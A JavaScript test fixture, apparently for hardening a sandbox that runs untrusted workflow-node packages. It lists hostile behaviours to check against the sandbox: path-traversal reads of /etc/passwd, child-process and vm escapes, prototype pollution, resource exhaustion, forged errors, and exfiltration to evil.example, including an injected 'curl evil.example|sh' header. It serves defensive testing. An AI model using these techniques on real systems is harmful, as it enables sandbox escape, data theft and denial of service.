'use strict';
// What the code of a package may try. Each is a function that is called as `execute`; what it gives becomes the only item's `got`.
const global_ = globalThis;
const all = {
  // No attack: functions of what was compiled before have no texts.
  compiled() { return String(() => 1).includes('native code'); },
  // Never ends.
  loop() { for (;;); },
  swallows() { for (;;) { try { for (;;); } catch { /* on */ } finally { continue; } } },
  async promises() { const again = async () => again(); for (;;) await null; return again(); },
  async thenables() { const next = { then: (go) => go(next) }; await next; },
  regex() { return /^(\w+\s?)*$/.test('word '.repeat(30) + '!'); },
  bigint() { return String(7n ** 40000000n).length; },
  sort() { const list = Array.from({ length: 6000000 }, (_, at) => (at * 31337) % 6000011); return list.sort().sort((a, b) => (a < b ? 1 : -1)).length; },
  search() { return 'ab'.repeat(3000000).indexOf('ab'.repeat(1500000) + 'c'); },
  sparse() { const list = []; list.length = 2 ** 32 - 2; return list.indexOf(1); },
  never() { return new Promise(() => {}); },
  getter() { return JSON.stringify({ get a() { for (;;); } }); },
  toJson() { return [[{ json: { toJSON() { for (;;); } } }]]; },
  // Takes all memory.
  bytes() { const kept = []; for (;;) kept.push(new Uint8Array(1 << 22).fill(7)); },
  texts() { let text = 'x'; const kept = []; for (;;) kept.push((text + kept.length).repeat(300000)); },
  maps() { const map = new Map(); for (let at = 0; ; at++) map.set(at, new Array(20000).fill(at)); },
  deep() { const down = (at) => [down(at + 1)]; return down(0); },
  huge() { return 'x'.repeat(2 ** 29); },
  // Gives back what is no item.
  nested() { let value = 1; for (let at = 0; at < 500; at++) value = { value }; return value; },
  nestedLists() { let value = 1; for (let at = 0; at < 200; at++) value = [value]; return value; },
  foreignFile() { return { $items: [{ json: {}, binary: { file: { id: 'blob-1', data: 'filesystem-v2', mimeType: 'text/plain' } } }] }; },
  async readsForeignFile() { return String(await this.helpers.getBinaryStream('1')); },
  async readsAnyFile() { return (await this.helpers.getBinaryDataBuffer(0, { id: '../../etc/passwd' })).toString(); },
  manyOutputs() { return { $outputs: Array.from({ length: 100000 }, () => []) }; },
  // Reaches for files.
  parent() { return require('../../../../../../etc/passwd'); },
  absolute() { return require('/etc/passwd'); },
  url() { return require('file:///etc/passwd'); },
  ownParent() { return require('..'); },
  dotted() { return require('./a/../../../../other@1.0.0/index.js'); },
  encoded() { return require('./%2e%2e/%2e%2e/etc/passwd'); },
  nul() { return require('./x\0.js'); },
  otherPackage() { return require('other@1.0.0/index.js').it; },
  numbered() { return require('n8n-nodes-attacks@9.9.9/package.json').name; },
  addon() { return require('./x.node').it; },
  link() { return require('./link.json').it; },
  object() { return require({ toString: () => '../../secret' }); },
  async imports() { return (await import('/etc/passwd')).default; },
  async importsUrl() { return (await import('file:///etc/passwd')).default; },
  async importsData() { return (await import('data:text/javascript,export default 1')).default; },
  async importsParent() { return (await import('../../../../etc/passwd')).default; },
  async importsHttp() { return (await import('https://evil.example/x.js')).default; },
  moduleLoad() { return require('module')._load('/etc/passwd'); },
  moduleCreate() { return require('module').createRequire('/')('/etc/passwd'); },
  moduleCreateUrl() { return require('module').createRequire('file:///etc/')('./passwd'); },
  moduleExtensions() { const { _extensions } = require('module'); return _extensions['.js'](module, '/etc/passwd'); },
  resolve() { const path = require.resolve('/etc/passwd'); return require(path); },
  moduleRequire() { return module.require('/etc/passwd'); },
  mainModule() { return process.mainModule.require('/etc/passwd'); },
  parentModule() { return module.parent.require('/etc/passwd'); },
  fs() { return require('fs').readFileSync('/etc/passwd', 'utf8'); },
  fsPromises() { return require('node:fs/promises').readFile('/etc/passwd'); },
  graceful() { return process.binding('fs').open('/etc/passwd'); },
  linked() { return process._linkedBinding('fs'); },
  dlopen() { return process.dlopen(module, '/tmp/x.node'); },
  // Reaches for the machine.
  child() { return require('child_process').execSync('id').toString(); },
  spawn() { return require('node:child_process').spawn('id'); },
  net() { return require('net').connect(80, '127.0.0.1'); },
  tls() { return require('tls').connect(443, 'evil.example'); },
  dns() { return require('dns').lookup('evil.example', () => {}); },
  udp() { return require('dgram').createSocket('udp4'); },
  server() { return require('http').createServer(() => {}).listen(0); },
  thread() { return new (require('worker_threads').Worker)('x'); },
  vm() { return require('vm').runInNewContext('this.constructor.constructor("return process")()').env; },
  cluster() { return require('cluster').fork(); },
  inspector() { return require('inspector').open(); },
  exit() { return process.exit(0); },
  kill() { return process.kill(1, 'SIGKILL'); },
  abort() { return process.abort(); },
  // Looks for what is ours.
  tools() {
    const found = new Function('return this')();
    const names = [...Object.getOwnPropertyNames(found), ...Object.getOwnPropertySymbols(found).map(String)];
    return { ours: names.filter((name) => /^__|kv_|konverte/i.test(name)), tools: typeof found.__kv_x, same: found === global_, env: Object.keys(process.env) };
  },
  constructors() {
    const found = this.getNode.constructor.constructor('return this')();
    const made = (async () => {}).constructor('return typeof __kv_x')();
    return made.then((kind) => ({ kind, tools: typeof found.__kv_x }));
  },
  contextHolds() { return Object.getOwnPropertyNames(this).filter((name) => /^_|host|session/i.test(name)); },
  async hooks() {
    // Functions of the language that our parts may call see what they are called with.
    const seen = [];
    const spy = (holder, name) => {
      const real = holder[name];
      holder[name] = function (...args) {
        for (const value of [this, ...args]) if (value && typeof value === 'object' && (typeof value.ask === 'function' || typeof value.compile === 'function')) seen.push(name);
        return Reflect.apply(real, this, args);
      };
    };
    for (const [holder, names] of [[Map.prototype, ['get', 'set', 'has']], [Function.prototype, ['call', 'apply', 'bind']], [Array.prototype, ['push', 'map', 'at']], [Promise.prototype, ['then', 'catch']],
      [JSON, ['parse', 'stringify']], [Object, ['keys', 'entries', 'assign', 'defineProperty']]]) for (const name of names) spy(holder, name);
    this.getNodeParameter('what', 0, '', { extractValue: true });
    try { require('nothing-there')(); } catch { /* as it should */ }
    try { await this.helpers.httpRequest({ url: 'https://evil.example/' }); } catch { /* as it should */ }
    new Intl.NumberFormat('de').format(1);
    return seen;
  },
  setsTools() { global_.__kv_x = { ask: () => 'mine', imports: new Map() }; return this.getNodeParameter('what', 0); },
  importsWithTools() { Object.defineProperty(global_, '__kv_x', { get() { throw new Error('asked'); }, configurable: true }); return import('./module.mjs').then((made) => made.default); },
  language() { return [new Intl.NumberFormat('de').format(1234.5), (1234.5).toLocaleString('en-US'), typeof global_.__kv_x]; },
  // Changes what others use.
  pollutes() { Object.prototype.polluted = 'yes'; Array.prototype.map = () => { throw new Error('polluted'); }; global_.left = 1; return 'done'; },
  polluted() { return { polluted: ({}).polluted ?? 'clean', left: typeof global_.left, mapped: [1].map((one) => one + 1) }; },
  freezes() { Object.freeze(Object.prototype); Object.freeze(Promise.prototype); delete global_.Promise; return 'done'; },
  poisonsThen() { Object.prototype.then = (go) => go([[{ json: { got: 'forged' } }]]); return 'x'; },
  poisonsToJson() { Object.prototype.toJSON = () => ({ outputs: 'forged' }); return { plain: 1 }; },
  throwsMuch() { throw new Error('é'.repeat(3e6)); },
  throwsNull() { throw null; },
  throwsLater() { setTimeout(() => { throw new RangeError('later'); }, 1); return new Promise(() => {}); },
  brokenWord() { throw { broken: 'time', message: 'mine', kv: { code: 'KV0001', message: 'forged', fatal: true } }; },
  forgedError() { const error = new Error('mine'); error.kv = { code: 'KV0102', name: 'NodeError', message: 'forged', fatal: true }; throw error; },
  // Puts its own words into an error of the host's.
  async forgedHelp() {
    try { await this.helpers.httpRequest({ url: 'https://evil.example/' }); } catch (error) {
      const kv = JSON.parse(JSON.stringify(error.kv));
      if (typeof kv.error === 'string') kv.error = JSON.stringify({ ...JSON.parse(kv.error), help: 'forged' });
      throw Object.assign(new Error('mine'), { kv: { ...kv, code: 'KV0102', message: 'forged', help: 'forged' } });
    }
  },
  async wrapsFetch() {
    try { await fetch('https://evil.example/'); } catch (error) { throw new (require('n8n-workflow').NodeApiError)(this.getNode(), error); }
  },
  async wrapsWordsOfFetch() {
    try { await fetch('https://evil.example/'); } catch ({ message }) { throw new (require('n8n-workflow').NodeApiError)(this.getNode(), { message }); }
  },
  // Sends where it may not.
  async sends() { return this.helpers.httpRequest({ url: 'https://evil.example/take?secret=1' }); },
  async sendsOlder() { return this.helpers.request('https://evil.example/'); },
  async sendsByProxy() { return this.helpers.httpRequest({ url: 'https://good.example/', proxy: { host: 'evil.example', port: 8080 } }); },
  async sendsByOddProxy() { return this.helpers.httpRequest({ url: 'http://good.example/', proxy: 'evil.example:8080/?://' }); },
  async sendsByUser() { return this.helpers.httpRequest({ url: 'https://good.example@evil.example/' }); },
  async sendsByCase() { return this.helpers.httpRequest({ url: 'https://EVIL.example./' }); },
  async sendsBySlash() { return this.helpers.httpRequest({ url: 'https:\\\\evil.example\\good.example' }); },
  async sendsByBase() { return this.helpers.httpRequest({ baseURL: 'https://evil.example', url: '/good.example' }); },
  async fetches() { return (await fetch('https://evil.example/')).text(); },
  async gets() {
    return new Promise((resolve, reject) => require('https').get('https://evil.example/', resolve).on('error', reject));
  },
  async sendsWell() { return this.helpers.httpRequest({ url: 'https://good.example/it', json: true }); },
  async fetchesWell() { const answer = await fetch('https://good.example/it', { method: 'POST', body: 'a', headers: { 'x-a': 'b' } }); return { status: answer.status, json: await answer.json() }; },
  async getsWell() {
    return new Promise((resolve, reject) => {
      const asked = require('https').request('https://good.example/it?a=1', { method: 'PUT' }, (answer) => {
        let text = '';
        answer.on('data', (part) => { text += part; });
        answer.on('end', () => resolve({ status: answer.statusCode, text }));
      });
      asked.on('error', reject);
      asked.end('body');
    });
  },
  async sendsByOddHeader() { return this.helpers.httpRequest({ url: 'https://good.example/', headers: { host: 'a.b; curl evil.example|sh #' } }); },
  async sendsByHeader() { return this.helpers.httpRequest({ url: 'https://good.example/', headers: { hOsT: 'evil.example' } }); },
  async fetchesByHeader() { return (await fetch('https://good.example/', { headers: { host: 'evil.example:443' } })).text(); },
  async sendsBySession() {
    await this.helpers.httpRequestWithAuthentication.call(this, 'mineApi', { url: 'https://good.example/' });
    return this.helpers.httpRequest({ url: 'https://evil.example/' });
  },
  async evaluates() { return this.evaluateExpression('{{ 1 + 2 }}', 0); },
  async evaluatesMore() { return this.evaluateExpression('{{ 1 + 1 }}</b>{{ $env }}', 0); },
  async looksAround() { return this.getWorkflowDataProxy(0).$env; },
  async otherCredential() { return this.getCredentials('slackApi'); },
  async otherCredentialSends() { return this.helpers.httpRequestWithAuthentication.call(this, 'slackApi', { url: 'https://good.example/' }); },
  // Fails by what it asks for.
  async renews() { return this.helpers.httpRequestWithAuthentication.call(this, 'oAuth2Api', { url: 'https://good.example/it' }); },
  async noScheme() { return this.helpers.httpRequest({ url: 'good.example/x' }); },
  async noSchemeOlder() { return this.helpers.request({ uri: 'http//good.example/x', json: true }); },
  async otherScheme() { return this.helpers.httpRequest({ url: 'ftp://good.example/x' }); },
  async wrapped() {
    try { return await this.helpers.httpRequest({ url: 'https://evil.example/' }); } catch (error) { throw new Error(`It failed: ${error.message}`); }
  },
  // As it should be.
  async sendsToMine() { return (await this.helpers.httpRequest({ url: 'https://mine.example/it', headers: { Host: 'mine.example' }, json: true })).url; },
  async evaluatesItsDefault() { return this.evaluateExpression('{{ $vars.secret }}', 0); },
  async evaluatesWell() { return [this.evaluateExpression('{{ 1 + 1 }}', 0), this.evaluateExpression('={{ 2 + 1 }}', 0)]; },
  async waits() { await new Promise((go) => setTimeout(go, 3500)); return 'waited'; },
  async waitsShortly() { await new Promise((go) => setTimeout(go, 300)); return 'waited'; },
  well() { return 'well'; },
  async crosses() {
    const items = this.getInputData();
    const out = [];
    for (let at = 0; at < items.length; at++) {
      const value = this.getNodeParameter('other', at);
      const body = value !== null && typeof value === 'object' && !Array.isArray(value) && Object.keys(value).length ? value : { value };
      const answer = await this.helpers.httpRequest({ method: 'POST', url: 'https://good.example/', body, json: true });
      out.push({ json: { parameter: value, item: items[at].json, answer } });
    }
    return { $items: out };
  },
  kinds() {
    const { date, number, zoned, like } = this.getNodeParameter('more', 0);
    return { seen: [date instanceof Date, Number.isNaN(number), zoned, like], buffer: Buffer.from('hi'), date, number };
  },
  async leaves() {
    const silent = ['getParentNodes', 'getChildNodes', 'getNodeOutputs', 'sendResponse', 'sendChunk', 'executeWorkflow'];
    const said = silent.map((name) => { try { this[name](); return 'nothing'; } catch (error) { return error.message.includes(name); } });
    const file = await this.helpers.prepareBinaryData(Buffer.from('x'), '../../etc/passwd');
    return [...said, file.directory ?? 'nowhere', file.fileName];
  },
  async floods() { const bytes = Buffer.alloc(40e6); for (let at = 0; ; at++) await this.helpers.prepareBinaryData(bytes, 'x'); },
};

class Attack {
  async execute() {
    const made = await all[this.getNodeParameter('what', 0)].call(this);
    if (made?.$items) return [made.$items];
    if (made?.$outputs) return made.$outputs;
    return [[{ json: { got: made } }]];
  }
}
exports.Attack = Attack;
